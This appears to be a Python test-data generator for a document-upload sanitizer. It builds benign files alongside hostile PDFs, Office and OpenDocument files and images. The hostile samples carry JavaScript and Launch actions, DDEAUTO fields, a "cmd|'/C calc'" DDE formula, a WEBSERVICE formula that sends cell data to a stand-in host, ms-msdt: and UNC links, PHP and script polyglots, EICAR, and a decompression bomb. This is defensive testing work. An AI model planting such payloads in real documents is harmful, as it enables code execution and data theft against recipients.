"""Hundreds of documents of each kind, made here with the tools that people's own programs are made with.

`good(chance)` gives documents that must come in and stay what they are, `hostile(chance)` ones of which
either nothing comes in, or only what is harmless: then `gone` are bytes that may be nowhere in it.
"""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.clamav import EICAR
from tests.documents import EXCEL, HOSTILE, POWERPOINT, WORD, office, opendocument, png, zipped

CANARY = b"KANARIE-9f3b"
_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Made:
    """A file; `refused` says that it may not come in at all."""

    naam: str
    content: bytes
    refused: bool = False
    gone: tuple[bytes, ...] = (CANARY,)
    pages: int = 0


def pdf_with(change: Callable[[pikepdf.Pdf], None], pages: int = 2, **saved: object) -> bytes:
    with pikepdf.new() as pdf:
        for number in range(pages):
            page = pdf.add_blank_page(page_size=(595, 842))
            page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Blad %d) Tj ET" % number)
        change(pdf)
        file = io.BytesIO()
        pdf.save(file, compress_streams=False, **saved)
        return file.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{CANARY.decode()}')"))


def _action(kind: str) -> Dictionary:
    return Dictionary(S=Name("/" + kind), F=String(CANARY.decode()), URL=String(CANARY.decode()))


def _note(pdf: pikepdf.Pdf, **of: object) -> None:
    note = Dictionary(Type=Name.Annot, Rect=[10, 10, 90, 90], **of)
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))


def _file_of(pdf: pikepdf.Pdf) -> pikepdf.Object:
    stream = pdf.make_stream(CANARY + b" MZ")
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F="x.exe", UF="x.exe", EF=Dictionary(F=stream)))


def _names(key: str) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        value = _file_of(pdf) if key == "EmbeddedFiles" else pdf.make_indirect(_script())
        pdf.Root.Names = Dictionary({f"/{key}": Dictionary(Names=Array([String("a"), value]))})

    return change


def _form(pdf: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T="a", Subtype=Name.Widget, AA=Dictionary(K=_script()))
    _note(pdf, **{key[1:]: field[key] for key in field.keys()})  # noqa: SIM118 - a dictionary of pikepdf
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots, XFA=pdf.make_stream(CANARY))


def _set(**of: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in of.items():
            pdf.Root[f"/{key}"] = value

    return change


def _by_somebody(pdf: pikepdf.Pdf) -> None:
    pdf.trailer.Info = pdf.make_indirect(Dictionary(Author=CANARY.decode()))


def _in_outline(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Deel 1", 0))
            outline.root.append(pikepdf.OutlineItem("Deel 2", 1))
        pdf.Root.Outlines.First.A = action

    return change


def _on_page(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=action)

    return change


_KINDS_OF_ACTION = re.findall(
    r"\w+",
    "JavaScript Launch SubmitForm ImportData GoToR GoToE Rendition Sound Movie Hide ResetForm Thread Trans"
    " GoTo3DView RichMediaExecute SetOCGState GoToDp Verzonnen",
)
_KINDS_OF_NOTE = ["RichMedia", "3D", "Movie", "Sound", "Screen", "FileAttachment", "Projection"]


def active_pdfs() -> Iterator[tuple[str, bytes]]:
    """Each kind of active content in each place where it can stand."""
    for kind in _KINDS_OF_ACTION:
        action = _script() if kind == "JavaScript" else _action(kind)
        yield f"open {kind}", pdf_with(_set(OpenAction=action))
        yield f"link {kind}", pdf_with(lambda pdf, a=action: _note(pdf, Subtype=Name.Link, A=a))
        yield f"outline {kind}", pdf_with(_in_outline(action))
        chained = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([action]))
        yield f"chained {kind}", pdf_with(lambda pdf, a=chained: _note(pdf, Subtype=Name.Link, A=a))
        yield (
            f"page {kind}",
            pdf_with(lambda pdf, a=action: pdf.pages[0].obj.update({"/AA": Dictionary(O=a)})),
        )
    for kind in _KINDS_OF_NOTE:
        yield (
            f"note {kind}",
            pdf_with(
                lambda pdf, k=kind: _note(
                    pdf, Subtype=Name("/" + k), FS=_file_of(pdf), Contents=CANARY.decode()
                )
            ),
        )
    for key in ("JavaScript", "EmbeddedFiles", "Renditions", "AlternatePresentations"):
        yield f"names {key}", pdf_with(_names(key))
    for scheme in ("javascript:", "file:///", "\\\\server\\", "data:text/html,", "smb://", " "):
        uri = Dictionary(S=Name.URI, URI=String(scheme + CANARY.decode()))
        yield f"uri {scheme}", pdf_with(lambda pdf, a=uri: _note(pdf, Subtype=Name.Link, A=a))
    yield "form", pdf_with(_form)
    yield "metadata", pdf_with(lambda pdf: _set(Metadata=pdf.make_stream(CANARY))(pdf))
    yield "info", pdf_with(_by_somebody)
    yield "associated", pdf_with(lambda pdf: _set(AF=Array([_file_of(pdf)]))(pdf))
    yield (
        "in streams",
        pdf_with(_set(OpenAction=_script()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    yield "tail", pdf_with(lambda _pdf: None) + CANARY + b"<script>alert(1)</script>\n%%EOF\n"


def refused_pdfs() -> Iterator[tuple[str, bytes]]:
    whole = pdf_with(lambda _pdf: None)
    for user in ("geheim", "1234"):
        for strength in (3, 4, 6):
            locked = pikepdf.Encryption(
                owner="baas", user=user, R=strength, aes=strength > 3, metadata=strength > 3
            )
            yield f"locked {user} {strength}", pdf_with(lambda _pdf: None, encryption=locked)
    yield "collection", pdf_with(_set(Collection=Dictionary(View=Name.T)))
    yield (
        "dynamic form",
        pdf_with(
            lambda pdf: _set(NeedsRendering=True, AcroForm=Dictionary(XFA=pdf.make_stream(b"<xdp/>")))(pdf)
        ),
    )
    yield "no page", pdf_with(lambda _pdf: None, pages=0)
    yield "lost pages", whole.replace(b"/Count 2", b"/Count 9")
    yield "only a head", b"%PDF-1.7\n" + bytes(500) + b"%%EOF"
    nothing = zlib.compress(bytes(2**20) * 400, 9)
    stream = b"<< /Type /ObjStm /N 9 /First 9 /Filter /FlateDecode /Length %d >>" % len(nothing)
    bomb = b"%%PDF-1.5\n1 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (stream, nothing)
    yield "object bomb", bomb + b"trailer << /Root 2 0 R >>\nstartxref\n9\n%%EOF\n"
    yield "deep", b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def picture(kind: str, size: tuple[int, int], mode: str, colour: int, **saved: object) -> bytes:
    made = Image.linear_gradient("L").resize(size).point(lambda grey: (grey + colour) % 256)
    file = io.BytesIO()
    made.convert(mode).save(file, kind, **saved)
    return file.getvalue()


def located(turned: int = 1) -> Image.Exif:
    """What a phone adds: where, and which way up."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = CANARY.decode(), turned
    exif.get_ifd(0x8825).update(
        {1: "N", 2: (52.0, 5.0, 12.0), 3: "E", 4: (5.0, 7.0, 1.0), 29: CANARY.decode()}
    )
    return exif


def telling_pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures that say where and by whom they were taken, or carry something else."""
    for turned in range(1, 9):
        size = (40 + turned, 20)
        yield f"foto{turned}.jpg", picture("JPEG", size, "RGB", turned, exif=located(turned), comment=CANARY)
        yield f"scan{turned}.tif", picture("TIFF", size, "RGB", turned, exif=located(turned))
        plain = picture("PNG", size, "RGB", turned)
        text = b"tEXtComment\0" + CANARY
        chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
        yield f"scan{turned}.png", plain[:33] + chunk + plain[33:]
    for name, kind in (("a.jpg", "JPEG"), ("a.png", "PNG")):
        whole = picture(kind, (30, 30), "RGB", 3)
        end = b"IEND\xaeB`\x82" if kind == "PNG" else b""
        yield name, whole + CANARY + b"<?php system(1) ?><script>" + end
        yield name, whole + zipped({"x.exe": CANARY}, folded=zipfile.ZIP_STORED) + end


def relation(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="r1" Type="{_SPACE}/{kind}" Target="{target}"{mode}/>'
    return f"<Relationships>{one}</Relationships>".encode()


def loading_office() -> Iterator[tuple[str, bytes]]:
    """Office documents that fetch, run or hold something else: none may come in."""
    rels = "word___rels__document.xml.rels"
    kinds = "oleObject externalLink externalLinkPath frame subDocument aFChunk control image video package ui"
    for kind in kinds.split():
        for name, main in (("a.docx", WORD), ("a.xlsx", EXCEL), ("a.pptx", POWERPOINT)):
            yield name, office(main, **{rels: relation(kind, "http://example.org/x")})
    for part in ("word__embeddings__oleObject1.bin", "word__embeddings__a.xlsx", "xl__externalLinks__e.xml",
                 "xl__connections.xml", "word__webextensions__w.xml", "word__activeX__a.xml",
                 "word__vbaProject.bin"):  # fmt: skip
        yield "a.docx", office(**{part: b"<x/>"})
    entity = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    yield "entiteit.docx", zipped({"[Content_Types].xml": WORD.encode(), "word/document.xml": entity})
    deep = b"<a>" * 100_000
    yield "diep.docx", zipped({"[Content_Types].xml": WORD.encode(), "word/document.xml": deep})
    yield "leeg.docx", named("word/document.xml", b"")
    yield "leeg.odt", opendocument(**{"content.xml": b""})


def loading_by_words() -> Iterator[tuple[str, bytes]]:
    """Word and Excel documents that say in a field or a formula what is fetched or run."""
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    for words in (["DDEAUTO c:\\\\x.exe"], ["DD", "EAU", "TO cmd"], [" dde excel"], ["LINK Excel"],
                  ["INCLUDETEXT http://x"], ["IMPORT x"]):  # fmt: skip
        body = (
            '<w:d xmlns:w="w"><w:fldChar/>' + "".join(run.format(it) for it in words) + "<w:fldChar/></w:d>"
        )
        yield "veld.docx", zipped({"[Content_Types].xml": WORD.encode(), "word/document.xml": body.encode()})
    simple = b'<w:d xmlns:w="w"><w:fldSimple w:instr="DDEAUTO x"/></w:d>'
    yield "veld.docx", zipped({"[Content_Types].xml": WORD.encode(), "word/document.xml": simple})
    for part in ("doc/document.xml", "word/document.bin", "Word/Document.XML", "customXml/item1.xml"):
        yield "elders.docx", named(part, _field("DDEAUTO c:\\x.exe"))
    yield "elders.docx", named("doc/document.bin", _field("DDE x"), by_ending=True)
    for code in ('INCLUDEPICTURE "http://x/p.png" \\d', "INCLUDE http://x", "RTD x"):
        yield "veld.docx", named("word/document.xml", _field(code))
    for cut in (b"DD<w:x/>EAUTO x", b"DD<w:x>E</w:x>AUTO x", b"DD</w:instrText>\n <w:instrText>EAUTO x"):
        yield "veld.docx", named("word/document.xml", _field("@").replace(b"@", cut))
    source = b'<w:d xmlns:w="w" xmlns:v="v"><v:imagedata src="http://x/p.png"/></w:d>'
    yield "vml.docx", named("word/document.xml", source)
    for formula in ('WEBSERVICE("http://x/?a="&amp;A1)', '_xlfn.IMAGE("http://x/p.png")', 'rtd("a",,"b")',
                    "1+_xlfn._xlws.PY (0,1)", "cmd|'/C calc'!A0", 'DDE("soffice","a","b")'):  # fmt: skip
        for element in ("f", "x:formula1", "definedName"):
            yield "formule.xlsx", sheet(f"<{element}>{formula}</{element}>")


def loading_fields() -> Iterator[tuple[str, bytes]]:
    """Word documents of which a field hides its name: none may come in."""
    for code in ("  " + " " * 40 + "DDEAUTO x", "\u00a0DDE x", '"IMPORT x"'):
        yield "veld.docx", named("word/document.xml", _field(code))
    for pieces in (
        "<w:delInstrText>{0}</w:delInstrText><w:instrText>{1}</w:instrText>",
        "<w:ins><w:instrText>{0}</w:instrText></w:ins><w:instrText>{1}</w:instrText>",
        "<w:instrText>{0}</w:instrText><w:del><w:delInstrText>{1}</w:delInstrText></w:del>",
    ):
        code = pieces.format("HYPERLINK x", " DDEAUTO x")
        yield "veld.docx", named("word/document.xml", _field(f"</w:instrText>{code}<w:instrText>"))
    cut = "DD</w:instrText><w:delInstrText>XX</w:delInstrText><w:instrText>EAUTO x"
    yield "veld.docx", named("word/document.xml", _field(cut))
    nested = "</w:instrText><w:fldChar/><w:instrText>QUOTE x</w:instrText><w:fldChar/><w:instrText> LINK x"
    yield "veld.docx", named("word/document.xml", _field(nested))


def loading_opendocument() -> Iterator[tuple[str, bytes]]:
    """OpenDocument texts that fetch, run or hold something else: none may come in."""
    for element in (
        "dde-source",
        "floating-frame",
        "object",
        "object-ole",
        "plugin",
        "applet",
        "event-listener",
    ):
        yield "a.odt", _odt(f"<{element}/>")
    yield from _loading_in_odf_elsewhere()
    for link in ("http://x/a.png", "file:///c:/a", "\\\\server\\a", "../../a.png", "//server/a",
                 "%5c%5cserver/a", "./../../a.png", "b/../../a.png", "&#xa0;http://x"):  # fmt: skip
        yield "a.odt", _odt(f'<draw-image href="{link}"/>')
    yield "a.odt", _odt('<auto-reload href="http://x/a.odt"/>', "meta.xml")
    yield "a.odt", _odt("<auto-reload/>", "meta.xml")
    yield "a.odt", _odt('<template href="http://x/a.ott"><a/></template>', "meta.xml")
    for part in ("settings.xml", "Eigen/content.xml"):
        yield "a.odt", _odt('<draw-image href="http://x/a.png"/>', part)
    for address in ("http://x/a", " \\\\server\\a", "//server/a"):
        yield "a.odt", _odt(f"<config-item>{address}</config-item>", "settings.xml")
    for said in ('name="PrinterNames">', 'name="X" type="PrinterName">', 'name="PrinterName"/><config-item>'):
        yield "a.odt", _odt(f"<config-item {said}\\\\server\\a</config-item>", "settings.xml")
    for link in ("javascript:x", "vnd.sun.star.script:x", "macro:///x"):
        yield "a.odt", _odt(f'<a href="{link}"/>')


def _loading_in_odf_elsewhere() -> Iterator[tuple[str, bytes]]:
    """OpenDocument texts with macros in the text, or with an address that is no href."""
    for library in ("<module>Sub AutoOpen</module>", "<library-embedded/>", '<library-linked href="x"/>'):
        yield "a.odt", _odt(f"<script><z:libraries xmlns:z='z'>{library}</z:libraries></script>")
    for name in ("image-data", "target-location", "datasource", "src", "action"):
        yield "a.odt", _odt(f'<f:image xmlns:f="f" f:{name}="https://x/a.png"/>')
    yield "a.odt", _odt('<draw-image xmlns:a="a" xmlns:b="b" a:href="a.png" b:href="http://x/a.png"/>')


def loading_drawings() -> Iterator[tuple[str, bytes]]:
    """Drawings in VML that fetch a picture, in the text or in a part of their own: none may come in."""
    body = '<w:d xmlns:w="w" xmlns:v="v" xmlns:o="o" xmlns:r="r">{}</w:d>'
    fills = ['<v:fill src="http://x/p.png" type="frame"/>', '<v:fill o:href="http://x/p.png"/>',
             '<v:stroke src="//x/p.png"/>', '<v:imagedata r:href="rId1" o:href="\\\\x\\p.png"/>',
             '<v:image src="file:///p.png"/>', '<v:imagedata o:althref="http://x/p.png"/>',
             '<v:rect href="ms-msdt:x"/>', '<v:imagedata src="%2e%2e/p.png"/>']  # fmt: skip
    for fill in fills:
        drawn = body.format(fill).encode()
        yield "a.docx", named("word/document.xml", drawn)
        for name, main, folder in (("a.docx", WORD, "word"), ("a.xlsx", EXCEL, "xl")):
            yield name, office(main, **{f"{folder}__drawings__d.vml": drawn})
            yield (
                name,
                office(main, **{f"{folder}__drawings__d.vml": drawn.replace(b"</w:d>", b"<br></w:d>")}),
            )
    loose = body.format("<br>" + fills[0].replace("http:", "&#104;ttp:"))
    yield "a.xlsx", office(EXCEL, **{"xl__drawings__d.vml": loose.encode()})
    yield "a.xlsx", office(EXCEL, **{"xl__drawings__d.vml": loose.encode("utf-16")})
    yield "a.docx", office(**{"word__drawings__d.vml": b"<d><br><o:object/></d>"})
    kind = "application/vnd.openxmlformats-officedocument.vmlDrawing"
    types = f'<T><Override PartName="/word/document.xml" ContentType="{WORD}"/>'
    types += f'<Default Extension="bin" ContentType="{kind}"/></T>'
    parts = {
        "[Content_Types].xml": types.encode(),
        "word/document.xml": b"<d/>",
        "word/d.bin": loose.encode(),
    }
    yield "a.docx", zipped(parts)


def _field(code: str) -> bytes:
    return f'<w:d xmlns:w="w"><w:fldChar/><w:instrText>{code}</w:instrText><w:fldChar/></w:d>'.encode()


def named(part: str, content: bytes, *, by_ending: bool = False, main: str = WORD) -> bytes:
    """An Office document whose main part is called so."""
    said = f'<Override PartName="/{part}" ContentType="{main}"/>'
    if by_ending:
        said = f'<Default Extension="{part.rpartition(".")[2]}" ContentType="{main}"/>'
    return zipped({"[Content_Types].xml": f"<Types>{said}</Types>".encode(), part: content})


def sheet(cells: str) -> bytes:
    """A workbook with these cells."""
    return office(EXCEL, **{"xl__worksheets__sheet1.xml": f'<s xmlns:x="x"><c>{cells}</c></s>'.encode()})


def _odt(inside: str, part: str = "content.xml", more: dict[str, bytes] | None = None) -> bytes:
    made = zipfile.ZipFile(io.BytesIO(opendocument()))
    parts = {name: made.read(name) for name in made.namelist()}
    return zipped(parts | {part: f"<o>{inside}</o>".encode()} | (more or {}))


def harmless_office() -> Iterator[tuple[str, str, bytes]]:
    """What the programs of people write in Office documents besides words: what it is, and the document."""
    accelerators = {"Configurations2/accelerator/current.xml": b"", "Configurations2/popupmenu/": b""}
    yield "OpenOffice's keys", "a.odt", _odt("<p/>", more=accelerators)
    for printer in ("PrinterName", "PrintFaxName", "PrinterSetup"):
        setting = '<c:config-item c:name="{}" c:type="string">{}</c:config-item>'
        said = setting.format(printer, r"\\srv01\HP LaserJet") + setting.format("PrintTables", "true")
        yield f"a {printer} in a network", "a.odt", _odt(said, "settings.xml")
    for link in ("file:///C:/Users/x/a.docx", "/C:/x/a.docx", "ftp://x/a.docx", "sms:061234", "C:\\a.docx"):
        yield f"a link to {link}", "a.odt", _odt(f'<p><a href="#x"/><a q="1" href="{link}">hier</a></p>')
    for code in (
        'HYPERLINK "https://x.nl" \\o "Klik op de link om te openen"',
        "REF Link \\h",
        "LINKED x",
        "MERGEFIELD Import \\* MERGEFORMAT",
        "MACROBUTTON NoMacro Plak hier de link in",
    ):
        yield f"a field {code}", "a.docx", named("word/document.xml", _field(f" {code} "))
    fraction = b'<w:d xmlns:m="m" xmlns:w="w"><m:f><m:num><m:t>|x|</m:t></m:num></m:f></w:d>'
    yield "a fraction", "a.docx", named("word/document.xml", fraction)
    drawn = '<w:d xmlns:w="w" xmlns:v="v" xmlns:o="o"><v:shape href="https://x.nl">{}</v:shape></w:d>'
    for drawing in (
        '<v:imagedata o:href="cid:image001.png@01D9"/>',
        '<v:fill color2="#ffffe1" src="a.png"/>',
    ):
        body = drawn.format(drawing).encode()
        yield f"a drawing {drawing}", "a.docx", named("word/document.xml", body)
        broken = body.replace(b"<w:d ", b"<br><w:d ").replace(b"https://x.nl", b"#x")
        yield f"no XML {drawing}", "a.xlsx", office(EXCEL, **{"xl__drawings__v.vml": broken})
    yield "an empty form", "a.docx", office(**{"customXml__item1.xml": b""})


def folded_unseen() -> bytes:
    """A Word document with a part that says to be empty, and has folded bytes all the same."""
    field = _field("DDEAUTO " + CANARY.decode())
    types = {"[Content_Types].xml": f"<T>{WORD}</T>".encode(), "word/document.xml": b"<d/>"}
    made = zipped(types | {"word/header1.xml": field}, folded=zipfile.ZIP_STORED)
    at = made.rfind(b"PK\x01\x02", 0, made.rfind(b"word/header1.xml"))
    return made[: at + 16] + bytes(4) + made[at + 20 : at + 24] + bytes(4) + made[at + 28 :]


def calmed_office() -> Iterator[tuple[str, bytes]]:
    """Office documents that come in without what they had."""
    settings = b'<w:s xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r1"/><w:zoom/></w:s>'
    for target in ("http://example.org/", "file:///C:/", "\\\\server\\"):
        link = relation("attachedTemplate", target + CANARY.decode())
        yield (
            "sjabloon.docx",
            office(**{"word__settings.xml": settings, "word___rels__settings.xml.rels": link}),
        )
    for scheme in ("javascript:", "file:///", "ms-msdt:", "search-ms:", "\\\\server\\", "x.exe?"):
        link = relation("hyperlink", scheme + CANARY.decode())
        for name, main in (("a.docx", WORD), ("a.xlsx", EXCEL), ("a.pptx", POWERPOINT)):
            yield name, office(main, **{"word___rels__document.xml.rels": link})
    yield "schijf.odt", _odt(f'<a href="file:///C:/{CANARY.decode()}">hier</a>')
    yield "kop.odt", _odt(f'<draw:a xmlns:draw="d" href="\\\\{CANARY.decode()}\\a"/>', "styles.xml")
    printer = f'<config-item name="PrinterName">\\\\{CANARY.decode()}\\HP</config-item>'
    yield "printer.odt", _odt(printer, "settings.xml")
    yield "sjabloon.odt", _odt(f'<template href="file:///C:/{CANARY.decode()}.ott"/>', "meta.xml")
    yield "leeg deel.docx", folded_unseen()
    yield "staart.docx", office()[:-22] + office()[-22:-2] + struct.pack("<H", len(CANARY)) + CANARY


def hostile(chance: random.Random) -> list[Made]:
    """At least 300: what is refused, and what comes in without its sting."""
    made = [Made(naam, content, refused=True) for naam, content, _sentence in HOSTILE]
    made += [Made(f"{name}.pdf", content, pages=2) for name, content in active_pdfs()]
    made += [Made(f"{name}.pdf", content, refused=True) for name, content in refused_pdfs()]
    made += [Made(naam, content) for naam, content in telling_pictures()]
    for loading in (loading_office, loading_by_words, loading_fields, loading_opendocument, loading_drawings):
        made += [Made(naam, content, refused=True) for naam, content in loading()]
    made += [Made(naam, content) for naam, content in calmed_office()]
    for ending in ["pdf", "docx", "xlsx", "pptx", "odt", "jpg", "png", "tif"]:
        made.append(Made(f"eicar.{ending}", EICAR, refused=True))
    for number in range(20):
        side = chance.randint(16_000, 2_000_000)
        made.append(Made(f"reus{number}.png", png(side, 250_000_000 // side + 20_000), refused=True))
    return made


def good(chance: random.Random, count: int) -> Iterator[Made]:
    """Documents as people make them."""
    for number in range(count):
        yield _GOOD[number % len(_GOOD)](chance, number)


def _word(chance: random.Random) -> str:
    return "".join(chance.choice(_LETTERS) for _ in range(8))


def _good_pdf(chance: random.Random, number: int) -> Made:
    pages = chance.randint(1, 12)

    def change(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(S=Name.URI, URI=String("https://example.org/" + _word(chance)))
        _note(pdf, Subtype=Name.Link, A=link)
        with pdf.open_outline() as outline:
            for page in range(pages):
                outline.root.append(pikepdf.OutlineItem(f"Blad {page}", page))

    how = chance.choice([{}, {"linearize": True}, {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
                         {"encryption": pikepdf.Encryption(owner="baas", user="", R=6)}])  # fmt: skip
    return Made(f"verslag{number}.pdf", pdf_with(change, pages=pages, **how), pages=pages)


def _good_picture(chance: random.Random, number: int) -> Made:
    kind, ending, modes = chance.choice(
        [("JPEG", "jpg", ["RGB", "L", "CMYK"]), ("PNG", "png", ["RGB", "L", "P", "RGBA", "1"]),
         ("TIFF", "tif", ["RGB", "L", "1"])]
    )  # fmt: skip
    size = (chance.randint(1, 400), chance.randint(1, 400))
    return Made(f"foto{number}.{ending}", picture(kind, size, chance.choice(modes), number))


def _good_sheet(chance: random.Random, number: int) -> Made:
    book, file = Workbook(), io.BytesIO()
    for _ in range(chance.randint(1, 50)):
        book.active.append([_word(chance) for _ in range(chance.randint(1, 8))])
    book.active["B9"] = '=IF(A1="kijk|IMAGE(","x",MYIMAGE(1))'
    book.active["A1"].hyperlink = "https://example.org/"
    book.save(file)
    return Made(f"lijst{number}.xlsx", file.getvalue())


def _good_office(chance: random.Random, number: int) -> Made:
    code = "<w:fldChar/><w:instrText>PAGEREF LINKED h</w:instrText><w:fldChar/>"
    body = f'<w:document xmlns:w="w"><w:t>{_word(chance)} DDE LINK</w:t>{code}</w:document>'.encode()
    link = relation("hyperlink", "https://example.org/?a=1&amp;b=2")
    main, ending = chance.choice([(WORD, "docx"), (POWERPOINT, "pptx")])
    parts = {
        "word___rels__document.xml.rels": link,
        "word__media__a.png": picture("PNG", (9, 9), "RGB", number),
    }
    return Made(f"brief{number}.{ending}", office(main, **parts, **{"word__footer.xml": body}))


def _good_text(chance: random.Random, number: int) -> Made:
    text = " ".join(_word(chance) for _ in range(chance.randint(1, 500)))
    return Made(f"tekst{number}.txt", f"{text} één".encode(chance.choice(["utf-8", "cp1252", "utf-16"])))


def _good_odt(chance: random.Random, number: int) -> Made:
    return Made(f"open{number}.odt", _odt(f'<p>{_word(chance)}</p><a href="https://example.org/"/>'))


_GOOD = (_good_pdf, _good_picture, _good_sheet, _good_office, _good_text, _good_odt)
